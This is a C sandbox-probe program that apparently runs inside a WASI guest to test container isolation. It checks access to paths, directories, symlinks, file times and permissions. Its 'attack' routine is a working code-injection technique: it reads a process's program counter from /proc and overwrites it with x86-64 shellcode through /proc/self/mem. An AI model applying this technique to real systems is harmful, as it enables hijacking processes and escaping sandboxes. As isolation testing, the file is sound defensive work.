// Kernel filesystems, devices and the container root, from inside the guest (issue 7). Commands:
//   try PATH...          for each PATH: "PATH ro=E rw=E stat=E" (E: 0 or the WASI errno of open/stat)
//   attack MEM SYSCALL STAT  the /proc/self/mem attack: the executor's pid from STAT's first field
//                        replaces "PID" in SYSCALL, which gives the main thread's pc; x86-64 code
//                        is written over it through MEM: it prints PWNED and exit_group(99)s
//   ls DIR               the directory's entries, one line, sorted
//   cat PATH             "PATH: " and the first line of the file (or "PATH error E")
//   write PATH           tries to open PATH for writing and write to it: "write PATH E"
//   symlink TEXT NAME    creates a symlink: "symlink NAME E"
//   stat PATH            "stat PATH E type=T mode=M size=S"
//   sleep SECONDS        sleeps (for tools that look at the running process)
//   access PATH          access(R_OK|W_OK|X_OK) as wasi-libc computes them: "access PATH r=E w=E x=E"
//   times PATH           creates PATH, sets its mtime to 1000000000.123456789 by path and its atime to
//                        1000000000.987654321 through an fd, reads both back: "times PATH E atime_ns mtime_ns"
// Ends with "survived" when nothing took over the executor.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int err_of(int r) { return r < 0 ? errno : 0; }

static void try_paths(int argc, char **argv) {
  for (int i = 0; i < argc; i++) {
    int ro = open(argv[i], O_RDONLY);
    int ro_e = err_of(ro);
    if (ro >= 0) close(ro);
    int rw = open(argv[i], O_RDWR);
    int rw_e = err_of(rw);
    if (rw >= 0) close(rw);
    struct stat st;
    int s_e = err_of(stat(argv[i], &st));
    printf("%s ro=%d rw=%d stat=%d\n", argv[i], ro_e, rw_e, s_e);
  }
}

// mov eax,1; mov edi,1; lea rsi,[rip+0x13]; mov edx,6; syscall; mov eax,231; mov edi,99; syscall; "PWNED\n"
static const unsigned char code[] = {
  0xb8, 0x01, 0x00, 0x00, 0x00, 0xbf, 0x01, 0x00, 0x00, 0x00, 0x48, 0x8d, 0x35, 0x13, 0x00, 0x00, 0x00,
  0xba, 0x06, 0x00, 0x00, 0x00, 0x0f, 0x05, 0xb8, 0xe7, 0x00, 0x00, 0x00, 0xbf, 0x63, 0x00, 0x00, 0x00,
  0x0f, 0x05, 'P', 'W', 'N', 'E', 'D', '\n',
};

static void attack(const char *mem, const char *syscall_pattern, const char *stat_file) {
  unsigned long long pc = 0;
  long pid = 1;
  FILE *s = fopen(stat_file, "r");
  printf("attack stat-file %d\n", s == NULL ? errno : 0);
  if (s != NULL) {
    if (fscanf(s, "%ld", &pid) != 1) pid = 1;
    fclose(s);
  }
  char syscall_file[256];
  const char *at = strstr(syscall_pattern, "PID");
  if (at == NULL) snprintf(syscall_file, sizeof syscall_file, "%s", syscall_pattern);
  else snprintf(syscall_file, sizeof syscall_file, "%.*s%ld%s", (int)(at - syscall_pattern), syscall_pattern, pid, at + 3);
  FILE *f = fopen(syscall_file, "r");
  if (f == NULL) {
    printf("attack syscall-file %d\n", errno);
  } else {
    unsigned long long v[9] = {0};
    char line[512] = {0};
    if (fgets(line, sizeof line, f) != NULL) {
      // "nr a1 a2 a3 a4 a5 a6 sp pc", numbers in hex after the first
      char *p = line;
      for (int i = 0; i < 9 && *p; i++) v[i] = strtoull(p, &p, i == 0 ? 10 : 16);
      pc = v[8];
    }
    fclose(f);
    printf("attack syscall-file 0\n");
  }
  int fd = open(mem, O_RDWR);
  printf("attack mem %d\n", err_of(fd));
  if (fd < 0) return;
  if (pc == 0) pc = 0x400000; // no pc known: still show that memory is writable
  ssize_t n = pwrite(fd, code, sizeof code, (off_t)pc);
  printf("attack wrote %zd\n", n);
  fflush(stdout);
  // Give the patched thread a moment to run into the code.
  for (volatile long i = 0; i < 200000000L; i++) {}
  close(fd);
}

static int cmp(const void *a, const void *b) { return strcmp(*(char *const *)a, *(char *const *)b); }

static void ls(const char *dir) {
  DIR *d = opendir(dir);
  if (d == NULL) {
    printf("ls %s error %d\n", dir, errno);
    return;
  }
  char *names[512];
  int n = 0;
  struct dirent *e;
  while ((e = readdir(d)) != NULL && n < 512) {
    if (strcmp(e->d_name, ".") == 0 || strcmp(e->d_name, "..") == 0) continue;
    names[n++] = strdup(e->d_name);
  }
  closedir(d);
  qsort(names, n, sizeof names[0], cmp);
  printf("ls %s:", dir);
  for (int i = 0; i < n; i++) printf(" %s", names[i]);
  printf("\n");
}

static void cat(const char *path) {
  FILE *f = fopen(path, "r");
  if (f == NULL) {
    printf("%s error %d\n", path, errno);
    return;
  }
  char line[256] = {0};
  if (fgets(line, sizeof line, f) == NULL) line[0] = 0;
  line[strcspn(line, "\n")] = 0;
  fclose(f);
  printf("%s: %s\n", path, line);
}

static void write_to(const char *path) {
  int fd = open(path, O_WRONLY);
  if (fd < 0) {
    printf("write %s %d\n", path, errno);
    return;
  }
  ssize_t n = write(fd, "1\n", 2);
  printf("write %s %d\n", path, n < 0 ? errno : 0);
  close(fd);
}

int main(int argc, char **argv) {
  for (int i = 1; i < argc; i++) {
    const char *cmd = argv[i];
    if (strcmp(cmd, "try") == 0) {
      try_paths(argc - i - 1, argv + i + 1);
      break;
    } else if (strcmp(cmd, "attack") == 0 && i + 3 < argc) {
      attack(argv[i + 1], argv[i + 2], argv[i + 3]);
      i += 3;
    } else if (strcmp(cmd, "ls") == 0 && i + 1 < argc) {
      ls(argv[++i]);
    } else if (strcmp(cmd, "cat") == 0 && i + 1 < argc) {
      cat(argv[++i]);
    } else if (strcmp(cmd, "write") == 0 && i + 1 < argc) {
      write_to(argv[++i]);
    } else if (strcmp(cmd, "symlink") == 0 && i + 2 < argc) {
      printf("symlink %s %d\n", argv[i + 2], err_of(symlink(argv[i + 1], argv[i + 2])));
      i += 2;
    } else if (strcmp(cmd, "stat") == 0 && i + 1 < argc) {
      struct stat st;
      memset(&st, 0, sizeof st);
      int e = err_of(stat(argv[++i], &st));
      printf("stat %s %d type=%o mode=%o size=%lld\n", argv[i], e, (unsigned)(st.st_mode & S_IFMT), (unsigned)(st.st_mode & 07777), (long long)st.st_size);
    } else if (strcmp(cmd, "times") == 0 && i + 1 < argc) {
      const char *p = argv[++i];
      int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC, 0644);
      int e = err_of(fd);
      if (fd >= 0) {
        struct timespec by_path[2] = {{1000000000, 111}, {1000000000, 123456789}};
        struct timespec by_fd[2] = {{1000000000, 987654321}, {1000000000, 123456789}};
        if (e == 0) e = err_of(utimensat(AT_FDCWD, p, by_path, 0));
        if (e == 0) e = err_of(futimens(fd, by_fd));
        close(fd);
      }
      struct stat st;
      memset(&st, 0, sizeof st);
      if (e == 0) e = err_of(stat(p, &st));
      printf("times %s %d %ld %ld\n", p, e, (long)st.st_atim.tv_nsec, (long)st.st_mtim.tv_nsec);
    } else if (strcmp(cmd, "sleep") == 0 && i + 1 < argc) {
      sleep((unsigned)atoi(argv[++i]));
    } else if (strcmp(cmd, "access") == 0 && i + 1 < argc) {
      const char *p = argv[++i];
      printf("access %s r=%d w=%d x=%d\n", p, err_of(access(p, R_OK)), err_of(access(p, W_OK)), err_of(access(p, X_OK)));
    } else {
      printf("unknown command %s\n", cmd);
      return 2;
    }
  }
  printf("survived\n");
  return 0;
}
